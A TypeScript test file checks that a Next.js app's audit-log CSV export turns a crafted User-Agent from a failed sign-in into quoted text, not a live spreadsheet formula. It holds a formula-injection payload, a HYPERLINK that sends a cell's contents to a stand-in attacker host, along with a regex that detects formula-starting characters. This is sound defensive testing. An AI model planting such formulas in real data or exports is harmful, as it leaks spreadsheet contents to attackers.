import { encode } from "next-auth/jwt";
import { parse } from "csv-parse/sync";
import { NextRequest } from "next/server";
import { describe, expect, it, vi } from "vitest";
import { hashPassword } from "@/lib/auth/password";
import { createMember, createPractice, setUpTestDatabase } from "../support/factory";

// CSV files the app hands out are safe to open in a spreadsheet: text anyone can type (here a
// User-Agent sent with a failed sign-in) never lands in a cell as a live formula.

const FORMULA_AGENT = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
const STARTS_A_FORMULA = /^[=+\-@\t\r]/;

let cookie: string | undefined;
vi.mock("next/headers", () => ({
  cookies: async () => ({ get: () => (cookie ? { value: cookie } : undefined) }),
  headers: async () => new Headers({ "user-agent": "csv-test", "x-real-ip": "198.51.100.61" }),
}));

const db = setUpTestDatabase();

describe("the audit trail's CSV export", () => {
  it("writes a User-Agent from a failed sign-in as text, not a formula, and the JSON export keeps it exactly", async () => {
    const password = "csv-test-password-long";
    const practice = await createPractice({ name: "Csv practice", requireTwoFactor: false, twoFactorRelaxedReason: "csv export test" });
    // Signed in, second factor passed and stepped up: what the CSV download needs.
    const owner = await createMember({ practice, role: "OWNER", email: "owner@csv.test", passwordHash: await hashPassword(password), session: { mfa: true, stepUp: true } });

    // A stranger tries the owner's email with a crafted User-Agent, as the sign-in route sees it.
    const { auditContextFromHeaders } = await import("@/lib/audit/context");
    const { signInWithPassword } = await import("@/lib/auth/sign-in");
    const hostile = auditContextFromHeaders(new Headers({ "user-agent": FORMULA_AGENT, "x-real-ip": "203.0.113.9" }));
    expect(await signInWithPassword({ email: owner.email, password: "wrong-password-entirely" }, hostile)).toEqual({ ok: false, reason: "invalid" });
    const failed = await db.prisma.auditEvent.findFirstOrThrow({ where: { practiceId: practice.id, action: "auth.signin.failed" } });
    expect(failed.userAgent).toBe(FORMULA_AGENT);

    // The owner, stepped up, downloads the trail as CSV.
    cookie = await encode({ token: { sid: owner.sessionId }, secret: process.env.AUTH_SECRET! });
    vi.resetModules();
    const { GET } = await import("@/app/api/audit/export/route");
    const response = await GET(new NextRequest("http://localhost/api/audit/export?format=csv"));
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
    const records = parse(await response.text(), { columns: true }) as Record<string, string>[];
    const row = records.find((r) => r.action === "auth.signin.failed")!;
    expect(row.userAgent).toBe(`'${FORMULA_AGENT}`);
    for (const r of records) for (const cell of Object.values(r)) expect(cell).not.toMatch(STARTS_A_FORMULA);
    const { restoreCell } = await import("@/lib/csv/csv");
    expect(restoreCell(row.userAgent!)).toBe(FORMULA_AGENT);

    vi.resetModules();
    const json = await (await import("@/app/api/audit/export/route")).GET(new NextRequest("http://localhost/api/audit/export?format=json"));
    const { events } = (await json.json()) as { events: { action: string; userAgent: string }[] };
    expect(events.find((e) => e.action === "auth.signin.failed")!.userAgent).toBe(FORMULA_AGENT);
  });
});
